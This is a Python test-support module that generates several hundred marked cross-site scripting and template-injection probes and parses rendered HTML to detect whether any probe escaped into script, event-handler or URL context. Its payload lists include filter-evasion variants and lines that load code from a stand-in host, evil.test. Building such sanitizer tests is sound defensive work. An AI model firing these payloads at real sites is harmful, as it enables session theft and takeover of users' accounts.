"""Texts that want to be markup or a program, and how to tell whether one of them became it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import count, product
from urllib.parse import unquote

_CALLS = [
    "alert({n})",
    "top[`al`+`ert`]({n})",
    "(alert)({n})",
    "alert`{n}`",
    "import('//evil.test/{n}')",
    "document.title='{n}'",
    "location='//evil.test/{n}'",
    "eval(atob('{n}'))",
]
_EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "OnPointerEnter"]
_ELEMENTS = [
    "<img src=x {e}={c}>",
    "<svg {e}={c}>",
    "<body {e}={c}>",
    "<input autofocus {e}={c}>",
    "<details open {e}={c}>",
    "<video><source {e}={c}></video>",
    "<x {e}={c} tabindex=1 id={n}>",
]
_CODE = [
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT >",
    "<script\n>{c}</script\t>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<svg><script>{c}</script></svg>",
    "<a href=javascript:{c}>",
    "<a href='java\tscript:{c}'>",
    "<a href='&#106;avascript:{c}'>",
    "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<object data=javascript:{c}>",
    "<form action=javascript:{c}><button>",
    "<button formaction=javascript:{c}>",
    "<base href='//evil.test/{n}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href='//evil.test/{n}'>",
    "<style>@import '//evil.test/{n}';</style>",
    "<math><mi xlink:href=javascript:{c}>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "＜script＞{c}＜/script＞",
    "javascript:{c}",
    "{{{{ {n} }}}}{{% debug %}}",
    "${{{n}}}#{{{n}}}",
    "<hx hx-get=//evil.test/{n} hx-trigger=load>",
]
_EXITS = ["", '">', "'>", "--></title></style></textarea></script>"]
_INSIDE = ['" {e}={c} x="', "' {e}={c} x='", "` {e}={c} x=`", "';{c};//", '";{c};//', "\\');{c};//", "*/{c}/*"]


def corpus() -> list[str]:
    """Several hundred, each with a number of its own: ``mk0042``."""
    numbers = (f"mk{number:04}" for number in count(1))
    made: list[str] = []

    def add(pattern: str, **parts: str) -> None:
        number = next(numbers)
        called = parts.pop("c", "").format(n=number)
        made.append(pattern.format(n=number, c=called, **parts) + ("" if number in called + pattern else f" {number}"))

    for out, pattern, call in product(_EXITS, _CODE, _CALLS[:4]):
        add(out.replace("{", "{{").replace("}", "}}") + pattern, c=call)
    for pattern, event in product(_ELEMENTS, _EVENTS):
        add(pattern, e=event, c=_CALLS[0])
    for pattern, event in product(_INSIDE, _EVENTS[:4]):
        add(pattern, e=event, c=_CALLS[4])
    for call in _CALLS:
        add("<script>{c}</script>", c=call)
    return made


_MARK = re.compile(r"mk\d{4}")
#: Where a text may stand in a page without being more than text.
_HARMLESS = {"value", "title", "aria-label", "data-label", "alt", "placeholder", "data-confirm", "data-text", "label"}
_ADDRESSES = {"href", "src", "action", "hx-get", "hx-post", "formaction"}


class Reader(HTMLParser):
    """Collects which texts were shown, and where one of them broke out."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shown: set[str] = set()
        self.broken: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if _MARK.search(tag):
            self.broken.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            marks = _MARK.findall(text)
            own_address = (
                name in _ADDRESSES and re.match(r"(/(?!/)|\?|#|mailto:|tel:)", text) and "<" not in unquote(name)
            )
            if (
                _MARK.search(name)
                or (marks and name not in _HARMLESS and not own_address)
                or name.startswith("on")
                or (name in _ADDRESSES and re.match(r"\s*(java|data:text|vb)", text, re.IGNORECASE))
            ):
                self.broken.append(f"<{tag} {name}={text}>")
            self.shown.update(marks)

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        marks = _MARK.findall(data)
        if marks and self.cdata_elem in {"script", "style"}:
            self.broken.append(f"in <{self.cdata_elem}>: {data[:80]}")
        self.shown.update(marks)

    def handle_comment(self, data: str) -> None:
        if _MARK.search(data):
            self.broken.append(f"<!--{data[:80]}")

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader
